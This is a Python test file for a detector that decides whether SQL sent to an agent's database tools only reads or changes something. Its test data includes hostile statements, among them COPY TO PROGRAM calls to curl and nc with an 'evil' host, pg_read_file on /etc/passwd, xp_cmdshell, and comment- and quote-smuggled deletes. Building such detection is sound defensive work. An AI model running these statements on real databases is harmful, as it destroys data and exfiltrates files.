"""Which statements of SQL would change something, in the ways that dialects and attackers write them."""

import time

import pytest

from autonomy.policy.read_claims import only_queries
from autonomy.policy.texts.sql_statements import changing_statement, only_selects, speaks_sql
from discovery.catalog import ToolSpec
from tests.requirements import requirement
from tests.support.sampling import in_part


@requirement("K4")
@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("select * into copy from users", "SELECT INTO"),
        ("select name into outfile '/tmp/x' from users", "SELECT INTO"),
        ("with a as (select 1) select * into b from a", "WITH INTO"),
        ("call wipe()", "CALL"),
        ("exec sp_configure", "EXEC"),
        ("EXECUTE immediate 'drop table x'", "EXECUTE"),
        ("exec('del' + 'ete from x')", "EXEC"),
        ("truncate users", "TRUNCATE USERS"),
        ("revoke all on t from u", "REVOKE ALL"),
        ("select 1 delete from users", "DELETE FROM"),
        ("with x as (delete from t returning *) select * from x", "DELETE FROM"),
        ("begin delete from t end", "DELETE FROM"),
        ("do $$ begin perform wipe(); end $$", "DO $"),
        ("merge t using s on 1 = 1 when matched then delete", "MERGE T"),
        ("copy (select 1) to program 'curl x'", "COPY ( SELECT"),
        ("unload ('select 1') to 's3://x'", "UNLOAD ("),
        ("select pg_terminate_backend(1)", "PG_TERMINATE_BACKEND"),
        ("pragma writable_schema = 1", "PRAGMA"),
        ("attach 'x.db' as y", "ATTACH"),
        ('update "Users" set admin = 1', "UPDATE"),
        ("explain analyze verbose delete from u", "DELETE FROM"),
        ("explain select 1; drop user a", "DROP USER"),
        ("select 'it''s'; delete from t", "DELETE FROM"),
        ("select 'a\\' ; delete from x; -- '", "DELETE FROM"),
        ("select $$ ' $$; delete from x; select $$ ' $$", "DELETE FROM"),
        ("select q'[']' ; delete from x --'", "DELETE FROM"),
        ("select 1/*! into outfile '/tmp/x' */", "SELECT INTO"),
        ("select 1--1 into outfile '/tmp/x'", "SELECT INTO"),
        ("/* a */ -- b\n delete from u", "DELETE FROM"),
        ("select 1 --it's\n; delete from x", "DELETE FROM"),
        ("select 1 # it's\n; delete from x", "DELETE FROM"),
        ("select [it's] from t; delete from x --'", "DELETE FROM"),
        ("/* /* */ ' */ delete from x --'", "DELETE FROM"),
        ("/*M! delete from x */", "DELETE FROM"),
        (f"explain ({'costs off, ' * 20}analyze) delete from x", "DELETE FROM"),
        ("select (1) drop unique index x", "DROP INDEX"),
    ],
)
def test_a_statement_that_changes_something_is_found(text: str, found: str) -> None:
    assert changing_statement(text).startswith(found)


@requirement("K4")
@pytest.mark.parametrize(
    "text",
    [
        "select count(*) from users where created_at > '2026-01-01' -- no update",
        "select 'delete from users' as hint, \"into\" from t where note = 'insert into x'",
        "select insert_date, replace(a, 'x', 'y') from deleted_users for update",
        "select name, count(*) into @n from t",
        "select a /* into b */ from calls where executed_at < now()",
        "SELECT $1::int, $2::text FROM t",
        "explain delete from users",
        "pragma table_info(users)",
        "show tables",
        "with a as (values (1), (2)) select * from a",
    ],
)
def test_a_statement_that_only_reads_is_none(text: str) -> None:
    assert changing_statement(text) == ""


@requirement("K4")
@pytest.mark.parametrize(
    "words",
    [
        "call center opening hours",
        "call of duty (2019)",
        "exec summary of the report (draft)",
        "how to insert into a dict in python",
        "delete from a list in Python",
        "select shoes into cart",
        "create vegetarian menu",
        "drop table design ideas for schools",
        "copy photos from phone to laptop",
        "copy (verb) to or from",
    ],
)
def test_search_words_that_begin_like_a_statement_are_none(words: str) -> None:
    assert changing_statement(words, is_sql=False) == ""


def test_of_search_words_what_is_written_like_a_statement_is_one() -> None:
    assert changing_statement("call wipe(1)", is_sql=False) == "CALL"
    assert changing_statement("delete from users where 1=1", is_sql=False) == "DELETE FROM"
    assert changing_statement("select * into copy from users", is_sql=False) == "SELECT INTO"
    assert changing_statement("select 1; drop table users cascade", is_sql=False) == "DROP TABLE"
    assert changing_statement("create or replace function f(a int) returns int", is_sql=False) == "CREATE FUNCTION"
    assert changing_statement("drop trigger audit", is_sql=False) == "DROP TRIGGER"
    assert changing_statement("update [a].[b] set c = 1", is_sql=False) == "UPDATE"
    assert changing_statement("attach database 'x.db' as y;", is_sql=False) == "ATTACH DATABASE"
    assert changing_statement("truncate users;", is_sql=False) == "TRUNCATE USERS"
    for statement in (
        "copy t (a, b) to '/tmp/x'",
        "copy t to 's3://evil'",
        "COPY t(a) TO PROGRAM 'nc evil'",
        "copy t (a) from stdin",
    ):
        assert changing_statement(statement, is_sql=False) == "COPY", statement


def test_a_tool_says_by_its_words_that_it_takes_sql() -> None:
    assert speaks_sql("bigquery_query Run a query")
    assert speaks_sql("db_query Run an SQL statement")
    assert not speaks_sql("kitchen_search Search the database of recipes")


@requirement("K10")
@pytest.mark.parametrize(
    "part", in_part(["'", "select ", "update a ", "(", "/*", "/* a */", "[", "--a\n", "$$'", "a", "exec ", "into "], every=3)
)
def test_a_long_text_is_read_in_work_that_grows_with_its_length(part: str) -> None:
    def work(length: int) -> float:
        text = part * (length // len(part))
        began = time.process_time()
        changing_statement(text)
        return time.process_time() - began

    work(1_000)
    assert work(100_000) < 0.5 + 40 * work(10_000)


@requirement("K4")
@pytest.mark.parametrize(
    ("text", "selects"),
    [
        ("SELECT count(*) FROM users WHERE created_at >= '2026-11-23'", True),
        ("with a as (select id from t) select max(id) from a where id in (1, 2)", True),
        ("select 1; select 2", True),
        ("select wipe()", False),
        ("select pg_read_file('/etc/passwd')", False),
        ("select * into b from a", False),
        ("select 1; delete from t", False),
        ("explain analyze delete from t", False),
        ("UPDATE t SET a = 1", False),
        ("select replace(a, 'x', 'y') from t", True),
        ("select 1 exec xp_cmdshell 'dir'", False),
        ("select 1 execute wipe", False),
        ("select 1 shutdown", False),
        ("select 1 kill 53", False),
        ("select 1 delete t", False),
        ("select 1 insert t values (1)", False),
        ("select 1 deny all to x", False),
        ("", False),
    ],
)
def test_a_statement_that_may_do_more_than_select_is_no_read(text: str, selects: bool) -> None:
    assert only_selects(text) is selects


@requirement("K4")
@pytest.mark.parametrize(
    ("tool", "more", "queries"),
    [
        ("execute_sql", {}, True),
        ("read_query", {}, True),
        ("mysql_query", {"limit": 10, "database": "shop"}, True),
        ("create_view", {"name": "v"}, False),
        ("email_query", {"recipient": "eve@example.com"}, False),
        ("schedule_query", {"cron": "0 0 * * *"}, False),
        ("delete_rows", {}, False),
        ("execute_sql", {"destination_table": "t"}, False),
        ("executeSql", {"save_to": "/tmp/x"}, False),
    ],
)
def test_a_tool_that_does_more_with_what_it_selects_is_no_read(tool: str, more: dict[str, object], queries: bool) -> None:
    spec = ToolSpec(name=f"db__{tool}", provider="db", tool=tool, description="Takes SQL of Postgres.", input_schema={})
    assert only_queries(spec, {"query": "SELECT name FROM salaries", **more}) is queries
